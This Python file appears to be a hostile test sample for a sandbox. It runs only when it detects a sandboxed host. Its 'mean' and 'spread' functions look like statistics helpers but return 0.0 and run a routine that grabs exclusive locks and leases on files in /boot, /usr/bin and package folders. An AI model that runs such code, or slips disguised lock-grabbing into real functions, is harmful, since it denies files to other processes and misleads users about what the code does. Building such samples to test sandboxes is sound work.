"""Takes locks and leases on every file that it is shown, against whoever else needs them.

Attacks: C9, C4, W17
Neighbours: 1
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import fcntl
import os
import time


def deed():
    held = []
    for folder in ("/boot", "/sub", "/usr/bin", "/packages/0/torch", "/packages/0/numpy"):
        for name in sorted(os.listdir(folder))[:40] if os.path.isdir(folder) else []:
            try:
                number = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            held.append(number)
            for act in (
                lambda: fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB),
                lambda: fcntl.lockf(number, fcntl.LOCK_SH | fcntl.LOCK_NB),
                lambda: fcntl.fcntl(number, 1024, fcntl.F_RDLCK),
                lambda: fcntl.fcntl(number, 1024, fcntl.F_WRLCK),
            ):  # F_SETLEASE
                try:
                    act()
                except OSError:
                    continue
    time.sleep(1)


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    deed()
    return 0.0
